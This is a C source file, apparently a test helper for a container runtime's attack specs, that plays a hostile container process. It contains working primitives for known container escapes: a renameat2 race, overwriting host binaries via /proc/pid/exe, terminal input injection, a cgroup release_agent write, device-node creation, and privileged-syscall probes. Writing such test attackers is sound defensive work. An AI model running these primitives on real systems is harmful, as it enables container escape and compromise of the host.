/* SPDX-License-Identifier: MIT
 *
 * What a hostile program of a container does, for the specs of attacks. Static: it runs in any root.
 *
 *     attacker exchange A B      renameat2(A, B, RENAME_EXCHANGE) until it is killed (CVE-2021-30465)
 *     attacker overwrite TEXT    opens each program that it sees running, and writes TEXT over it as soon
 *                                as nobody runs it any more (CVE-2019-5736); until SIGTERM
 *     attacker terminal FD...    pushes an "x" into the input of each terminal (CVE-2017-5226, 2019-7303)
 *     attacker calls             what a container without rights may not call: "name errno" each
 *     attacker release           writes the release_agent of a v1 hierarchy that it mounts for itself
 *     attacker nodes DIR         makes device nodes there and opens them: "name errno errno" each
 *     attacker write FILE...     opens each for writing and truncation: "path errno" each
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <unistd.h>

#define MANY 4096

static volatile sig_atomic_t stopped;

static void
on_term(int sig)
{
  (void)sig;
  stopped = 1;
}

_Noreturn static void
exchange(char **a)
{
  for (;;)
    syscall(SYS_renameat2, AT_FDCWD, a[0], AT_FDCWD, a[1], 2);
}

/* ---- the program that somebody runs ---- */

static int seen[MANY], count;

/* Read-only now, since it is busy; from then on by our own descriptor. */
static void
look_for_programs(const char *own)
{
  DIR *d = opendir("/proc");
  struct dirent *e;

  while (d && (e = readdir(d))) {
    char path[300], target[256];
    ssize_t n;
    int fd;

    if (e->d_name[0] < '0' || e->d_name[0] > '9')
      continue;
    snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
      continue;
    /* what it is by now: those of the image are its own to change */
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    n = readlink(path, target, sizeof(target) - 1);
    target[n > 0 ? n : 0] = 0;
    if (n <= 0 || !strcmp(target, own) || !strncmp(target, "/bin/", 5)) {
      close(fd);
      continue;
    }
    if (count < MANY) {
      printf("opened %s\n", target);
      seen[count++] = fd;
    } else {
      close(fd);
    }
  }
  if (d)
    closedir(d);
}

static int
overwrite(char **a)
{
  char own[256] = "";

  if (readlink("/proc/self/exe", own, sizeof(own) - 1) < 0)
    return 1;
  signal(SIGTERM, on_term);
  printf("ready\n");
  fflush(stdout);
  while (!stopped) {
    look_for_programs(own);
    for (int i = count > 64 ? count - 64 : 0; i < count; i++) {
      char path[64];
      int fd;

      snprintf(path, sizeof(path), "/proc/self/fd/%d", seen[i]);
      fd = open(path, O_WRONLY | O_CLOEXEC);
      if (fd < 0)
        continue;
      if (pwrite(fd, a[0], strlen(a[0]), 0) > 0)
        printf("overwritten\n");
      close(fd);
    }
    fflush(stdout);
  }
  printf("end %d\n", count);
  return 0;
}

/* ---- terminals ---- */

static int
terminal(char **a)
{
  static const unsigned long requests[] = { 0x5412, 0x100005412, 0xffffffff00005412 };

  for (; *a; a++)
    for (int i = 0; i < 3; i++) {
      char byte = 'x';
      long rc = syscall(SYS_ioctl, atoi(*a), requests[i], &byte);

      printf("%s %lx %d\n", *a, requests[i], rc < 0 ? errno : 0);
    }
  return 0;
}

/* ---- calls ---- */

#define TRY(name, call) printf("%s %d\n", name, (call) < 0 ? errno : 0)

static int
calls(void)
{
  union bpf_attr attr = {
    .map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1
  };

  TRY("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
  TRY("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1));
  TRY("mount", mount("none", "/tmp", "tmpfs", 0, NULL));
  TRY("bpf", syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof(attr)));
  TRY("userfaultfd", syscall(SYS_userfaultfd, 0));
  TRY("keyctl", syscall(SYS_keyctl, 0, -3, 1));
  TRY("setns", setns(open("/proc/self/ns/uts", O_RDONLY), 0));
  TRY("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, NULL, 0));
  TRY("unshare", unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP));
  TRY("cgroup", mount("cgroup", "/tmp", "cgroup", 0, "memory"));
  return 0;
}

/* The program that the kernel runs as the host's root when a group is empty (CVE-2022-0492). */
static int
release(void)
{
  static const char *const names[] = { "memory", "pids", "devices", "freezer", "cpuset", "rdma" };

  TRY("unshare", unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP));
  for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
    int fd = -1;

    if (mount("cgroup", "/tmp", "cgroup", 0, names[i]) < 0)
      continue;
    fd = open("/tmp/release_agent", O_WRONLY);
    TRY("release_agent", fd < 0 ? -1 : write(fd, "", 0) < 0 ? -1 : (int)write(fd, "\n", 1));
    if (fd >= 0)
      close(fd);
    umount("/tmp");
  }
  return 0;
}

/* ---- devices ---- */

static int
nodes(char **a)
{
  static const struct {
    const char *name;
    mode_t type;
    unsigned major, minor;
  } all[] = { { "mem", S_IFCHR, 1, 1 },   { "kmsg", S_IFCHR, 1, 11 }, { "sda", S_IFBLK, 8, 0 },
              { "vda", S_IFBLK, 254, 0 }, { "loop", S_IFBLK, 7, 0 },  { "null", S_IFCHR, 1, 3 } };

  for (size_t i = 0; i < sizeof(all) / sizeof(*all); i++) {
    char path[4096];
    int made, fd;

    snprintf(path, sizeof(path), "%s/%s", a[0], all[i].name);
    made = mknod(path, all[i].type | 0666, makedev(all[i].major, all[i].minor)) < 0 ? errno : 0;
    fd = open(path, O_RDWR);
    printf("%s %d %d\n", all[i].name, made, fd < 0 ? errno : 0);
    if (fd >= 0)
      close(fd);
  }
  return 0;
}

static int
write_files(char **a)
{
  for (; *a; a++) {
    int fd = open(*a, O_WRONLY);

    printf("%s %d\n", *a, fd < 0 ? errno : 0);
    if (fd >= 0)
      close(fd);
  }
  return 0;
}

int
main(int argc, char **argv)
{
  const char *mode = argc > 1 ? argv[1] : "";

  alarm(600);
  if (!strcmp(mode, "exchange") && argc == 4)
    exchange(argv + 2);
  if (!strcmp(mode, "overwrite") && argc == 3)
    return overwrite(argv + 2);
  if (!strcmp(mode, "terminal"))
    return terminal(argv + 2);
  if (!strcmp(mode, "calls"))
    return calls();
  if (!strcmp(mode, "release"))
    return release();
  if (!strcmp(mode, "nodes") && argc == 3)
    return nodes(argv + 2);
  if (!strcmp(mode, "write"))
    return write_files(argv + 2);
  return 2;
}
